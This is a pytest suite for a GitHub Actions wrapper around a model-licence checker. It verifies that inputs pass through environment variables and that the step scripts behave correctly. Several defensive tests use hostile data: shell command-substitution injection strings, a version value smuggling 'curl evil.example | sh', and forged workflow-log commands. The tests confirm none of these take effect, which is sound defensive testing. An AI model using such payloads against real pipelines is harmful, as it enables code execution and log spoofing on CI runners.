"""action.yml: inputs reach the scripts only through the environment, and the scripts really work.

The steps' `run:` scripts are executed here with bash exactly as a runner starts them
(`bash --noprofile --norc -eo pipefail FILE`), their `env:` evaluated from the inputs, with
GITHUB_ACTION_PATH at the repository root, GITHUB_STEP_SUMMARY / GITHUB_OUTPUT / GITHUB_PATH in a
temporary directory, and LICENSECHECK_ACTION_SKIP_INSTALL=1 so the already installed CLI is used.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent
ACTION = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))
STEPS: list[dict[str, Any]] = ACTION["runs"]["steps"]
INPUTS: dict[str, dict[str, Any]] = ACTION["inputs"]
EXPR = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
EXAMPLE_CONFIG = "examples/licensecheck.yaml"
TABLE_HEADER = "| model | licence | openness | commercial | export-caution |"
BASH = shutil.which("bash")


def _step(step_id: str) -> dict[str, Any]:
    return next(s for s in STEPS if s.get("id") == step_id)


# -- static checks ---------------------------------------------------------------------------------


def test_composite_action_with_bash_steps() -> None:
    assert ACTION["runs"]["using"] == "composite"
    assert ACTION["name"] and ACTION["description"]
    assert [s["id"] for s in STEPS] == ["install", "run"]
    for step in STEPS:
        assert step["shell"] == "bash"
        assert isinstance(step["run"], str) and step["run"].strip()


def test_no_expression_is_ever_pasted_into_a_script() -> None:
    for step in STEPS:
        assert "${{" not in step["run"], f"step {step['id']} pastes an expression into its script"
        assert "inputs." not in step["run"]


def test_every_input_reaches_a_script_through_env_only() -> None:
    used: dict[str, str] = {}
    for step in STEPS:
        for var, value in (step.get("env") or {}).items():
            exprs = EXPR.findall(str(value))
            assert exprs, f"{var} is not set from an input"
            assert str(value).strip() == f"${{{{ {exprs[0]} }}}}", f"{var}: one whole expression"
            name = exprs[0].removeprefix("inputs.")
            assert exprs[0] == f"inputs.{name}" and name in INPUTS, f"{var}: {value}"
            assert var == "INPUT_" + name.upper().replace("-", "_")
            used[name] = var
            assert f'"${var}"' in step["run"] or f"${{{var}" in step["run"], f"{var} unused in {step['id']}"
    assert set(used) == set(INPUTS), f"inputs never used: {set(INPUTS) - set(used)}"
    # the action's documented inputs, all optional with a default
    assert {"policies", "config", "targets", "format", "fail-on", "sarif", "offline", "version"} <= set(
        INPUTS
    )
    for name, spec in INPUTS.items():
        assert spec.get("required") is False and "default" in spec and spec.get("description"), name


def test_exit_code_output_comes_from_the_run_step() -> None:
    assert ACTION["outputs"]["exit-code"]["value"] == "${{ steps.run.outputs.exit-code }}"


# -- running the scripts ---------------------------------------------------------------------------


@dataclass
class Run:
    code: int
    stdout: str
    stderr: str
    summary: str
    outputs: str


@pytest.fixture
def runner(tmp_path: Path) -> Any:
    assert BASH is not None, "bash is required"
    summary = tmp_path / "step_summary.md"
    summary.write_text("previous step's summary\n")
    outputs = tmp_path / "github_output"
    github_path = tmp_path / "github_path"
    runner_temp = tmp_path / "runner_temp"
    runner_temp.mkdir()

    def run(step_id: str = "run", *, install: bool = False, **given: str) -> Run:
        inputs = {name: str(spec.get("default", "")) for name, spec in INPUTS.items()}
        for key, value in given.items():
            name = key.replace("_", "-")
            assert name in INPUTS, name
            inputs[name] = value
        step = _step(step_id)
        env = {k: v for k, v in os.environ.items() if not k.startswith(("INPUT_", "GITHUB_"))}
        for var, value in (step.get("env") or {}).items():
            env[var] = EXPR.sub(lambda m: inputs[m.group(1).removeprefix("inputs.")], str(value))
        env.update(
            PATH=f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}",
            GITHUB_ACTION_PATH=str(ROOT),
            GITHUB_STEP_SUMMARY=str(summary),
            GITHUB_OUTPUT=str(outputs),
            GITHUB_PATH=str(github_path),
            RUNNER_TEMP=str(runner_temp),
        )
        if not install:
            env["LICENSECHECK_ACTION_SKIP_INSTALL"] = "1"
        script = tmp_path / f"{step_id}.sh"
        script.write_text(step["run"])
        done = subprocess.run(
            [str(BASH), "--noprofile", "--norc", "-eo", "pipefail", str(script)],
            cwd=ROOT,
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
        )
        return Run(
            done.returncode,
            done.stdout,
            done.stderr,
            summary.read_text(),
            outputs.read_text() if outputs.exists() else "",
        )

    return run


def test_offline_check_writes_summary_and_sarif_and_fails_like_the_tool(runner: Any, tmp_path: Path) -> None:
    sarif = tmp_path / "out" / "licensecheck.sarif"
    sarif.parent.mkdir()
    r = runner(config=EXAMPLE_CONFIG, offline="true", sarif=str(sarif))
    assert r.code == 1, r.stderr  # the examples deny models under openness
    # the Markdown table is appended to the job summary
    assert r.summary.startswith("previous step's summary\n")
    assert TABLE_HEADER in r.summary
    assert "| deepseek-ai/DeepSeek-R1 | MIT License (`MIT`) | allow | allow | *warn* |" in r.summary
    # SARIF 2.1.0 with a result per failing finding, located at the config (check has no scanned lines)
    doc = json.loads(sarif.read_text())
    assert doc["version"] == "2.1.0"
    results = doc["runs"][0]["results"]
    assert results and {r["ruleId"] for r in results} >= {"not-open", "restricted-party"}
    uris = {loc["physicalLocation"]["artifactLocation"]["uri"] for res in results for loc in res["locations"]}
    assert uris <= {"examples/licensecheck.yaml", "examples/licensecheck.lock"}
    # the log has the text report; the step output and an error annotation carry the result
    assert "deepseek-ai/DeepSeek-R1" in r.stdout and "OPENNESS" in r.stdout
    assert "exit-code=1" in r.outputs
    assert "::error title=licensecheck::" in r.stdout


def test_fail_on_never_passes_and_still_reports(runner: Any) -> None:
    r = runner(config=EXAMPLE_CONFIG, offline="true", fail_on="never")
    assert r.code == 0, r.stderr
    assert TABLE_HEADER in r.summary
    assert "exit-code=0" in r.outputs
    assert "::error" not in r.stdout


def test_policies_targets_lockfile_and_output(runner: Any, tmp_path: Path) -> None:
    report = tmp_path / "report.json"
    r = runner(
        policies="openness, commercial",
        lockfile="examples/licensecheck.lock",
        targets="deepseek-ai/DeepSeek-R1\n  mistralai/Mistral-7B-v0.1",
        offline="TRUE",
        format="json",
        output=str(report),
    )
    assert r.code == 0, r.stdout + r.stderr
    assert "| model | licence | openness | commercial |\n" in r.summary
    data = json.loads(report.read_text())
    assert [m["id"] for m in data["models"]] == ["deepseek-ai/DeepSeek-R1", "mistralai/Mistral-7B-v0.1"]
    assert data["postures"] == ["openness", "commercial"]
    fence = [line for line in r.stdout.splitlines() if line.startswith("::")]  # ::stop-commands:: and its end
    assert len(fence) == 2 and r.stdout.split() == fence  # the report went to the file, not the log


def test_usage_errors_exit_2(runner: Any) -> None:
    r = runner(config=EXAMPLE_CONFIG, offline="true", policies="no-such-posture")
    assert r.code == 2
    assert "no-such-posture" in r.stderr
    assert "exit-code=2" in r.outputs
    assert runner(config=EXAMPLE_CONFIG, offline="maybe").code == 2
    assert runner(config=EXAMPLE_CONFIG, command="rm").code == 2
    assert runner(config=EXAMPLE_CONFIG, offline="true", fail_on="sometimes").code == 2


def test_scan_command_locates_references_in_sarif(runner: Any, tmp_path: Path) -> None:
    code = tmp_path / "train.py"
    code.write_text(
        "from transformers import AutoModel\n"
        'AutoModel.from_pretrained("mistralai/Mistral-7B-v0.1")\n'
        'AutoModel.from_pretrained("acme-ai/unlocked-model")\n'
    )
    sarif = tmp_path / "scan.sarif"
    r = runner(
        command="scan",
        config=EXAMPLE_CONFIG,
        offline="true",
        targets=str(code),
        sarif=str(sarif),
        policies="openness",
    )
    assert r.code == 1
    results = json.loads(sarif.read_text())["runs"][0]["results"]
    assert [(x["ruleId"], x["properties"]["model"]) for x in results] == [
        ("unresolved", "acme-ai/unlocked-model")
    ]
    location = results[0]["locations"][0]["physicalLocation"]
    assert location["artifactLocation"]["uri"].endswith("train.py")
    assert location["region"]["startLine"] == 3
    assert "licensecheck lock" in r.stderr


def test_inputs_are_data_not_code(runner: Any, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    evil = f'$(touch {marker}) `touch {marker}` "; touch {marker}; echo "'
    r = runner(config=EXAMPLE_CONFIG, offline="true", targets=evil, policies=evil, fail_on="never")
    assert not marker.exists()
    assert r.code == 2  # the odd words reached licensecheck as policy names, which do not exist
    r = runner(config=EXAMPLE_CONFIG, offline="true", targets=f"deepseek-ai/DeepSeek-R1 {evil}")
    assert not marker.exists()


def test_baseline_use_and_args_inputs_reach_licensecheck(runner: Any, tmp_path: Path) -> None:
    # A baseline lockfile that knows only DeepSeek-R1: the other models are new, and can fail the run.
    import yaml as _yaml

    lock = _yaml.safe_load((ROOT / "examples" / "licensecheck.lock").read_text(encoding="utf-8"))
    lock["models"] = {k: v for k, v in lock["models"].items() if k == "deepseek-ai/DeepSeek-R1"}
    base = tmp_path / "base.lock"
    base.write_text(_yaml.safe_dump(lock), encoding="utf-8")
    report = tmp_path / "report.json"
    r = runner(
        config=EXAMPLE_CONFIG,
        offline="true",
        baseline=str(base),
        use="internal, distribute",
        args="--jobs 2 -p 'commercial'",
        targets="deepseek-ai/DeepSeek-R1 Qwen/Qwen2.5-3B-Instruct",
        format="json",
        output=str(report),
    )
    assert r.code == 1, r.stderr  # Qwen2.5-3B is new since the baseline and denied
    data = json.loads(report.read_text())
    assert data["postures"] == ["commercial"]  # from `args`, quotes removed
    assert {m["id"]: m["baseline"] for m in data["models"]} == {
        "deepseek-ai/DeepSeek-R1": "unchanged",
        "Qwen/Qwen2.5-3B-Instruct": "new",
    }
    assert "Baseline: 1 new or relicensed (can fail the run), 1 exempt (unchanged)." in r.summary
    assert "| baseline |" in r.summary
    # with the baseline holding both, nothing is new: the deny no longer fails the step
    r = runner(
        config=EXAMPLE_CONFIG,
        offline="true",
        baseline="examples/licensecheck.lock",
        targets="Qwen/Qwen2.5-3B-Instruct",
        args="-p commercial",
    )
    assert r.code == 0, r.stdout + r.stderr
    assert "exempt" in r.stdout


def test_args_input_is_split_never_evaluated(runner: Any, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    evil = f"--jobs 2 $(touch {marker}) `touch {marker}` ; touch {marker}"
    report = tmp_path / "report.json"
    r = runner(
        config=EXAMPLE_CONFIG, offline="true", args=evil, fail_on="never", format="json", output=str(report)
    )
    assert not marker.exists()
    # the words reached licensecheck literally, as targets, none run: the first is no target of any
    # accepted form, so the run stops with a usage error naming it (nothing judged, no report written)
    assert r.code == 2, r.stdout + r.stderr
    assert "'$(touch'" in r.stdout + r.stderr and not report.exists()
    r = runner(config=EXAMPLE_CONFIG, offline="true", args="--jobs 'unclosed")
    assert r.code == 2
    assert "input 'args'" in r.stdout
    assert not marker.exists()


def test_install_step(runner: Any, tmp_path: Path) -> None:
    r = runner("install")
    assert r.code == 0, r.stderr
    assert "LICENSECHECK_ACTION_SKIP_INSTALL=1" in r.stdout
    assert f"not installing {ROOT}" in r.stdout  # empty version: the action's own copy
    r = runner("install", version="0.1.0")
    assert r.code == 0 and "model-licensecheck==0.1.0" in r.stdout
    # a hostile version is refused before anything is created or installed
    r = runner("install", install=True, version="0.1.0 ; curl evil.example | sh")
    assert r.code == 2
    assert "::error title=licensecheck::input 'version'" in r.stdout
    assert not (tmp_path / "runner_temp" / "licensecheck-venv").exists()


def test_run_step_fails_clearly_without_the_tool() -> None:
    assert BASH is not None
    bare = subprocess.run(
        [str(BASH), "--noprofile", "--norc", "-eo", "pipefail", "-c", _step("run")["run"]],
        env={"PATH": "/usr/bin:/bin", "INPUT_COMMAND": "check", "INPUT_OFFLINE": "true"},
        capture_output=True,
        text=True,
        timeout=60,
    )
    if shutil.which("licensecheck", path="/usr/bin:/bin"):
        pytest.fail("a licensecheck on /usr/bin:/bin makes this test meaningless")
    assert bare.returncode == 2
    assert "licensecheck is not on PATH" in bare.stdout


FORGE = "evil\n::error::forged\r::add-mask::deny\u2028::warning::x"


def test_the_action_fences_the_report_with_stop_commands(runner: Any, tmp_path: Path) -> None:
    """Failed before: action.yml printed the report (and stderr) straight into the log."""
    folder = tmp_path / "forge"
    folder.mkdir()
    (folder / "README.md").write_text(f"---\nlicense: other\nlicense_name: {json.dumps(FORGE)}\n---\n")
    done = runner("run", targets=str(folder), offline="true", policies="openness", fail_on="deny")
    assert done.code == 1
    lines = (done.stdout + done.stderr).splitlines()
    opened = [i for i, line in enumerate(lines) if line.startswith("::stop-commands::")]
    assert len(opened) == 1
    token = lines[opened[0]].split("::")[2]
    assert len(token) >= 32 and token not in FORGE
    closed = lines.index(f"::{token}::")
    inside = lines[opened[0] + 1 : closed]
    assert any("forge" in line for line in inside)  # the report is printed inside the fence
    assert not any(line.lstrip().startswith("::") for line in inside)
    assert [line for line in lines[: opened[0]] + lines[closed + 1 :] if line.startswith("::")] == [
        "::error title=licensecheck::at least one model fails the policies; see the job summary"
    ]
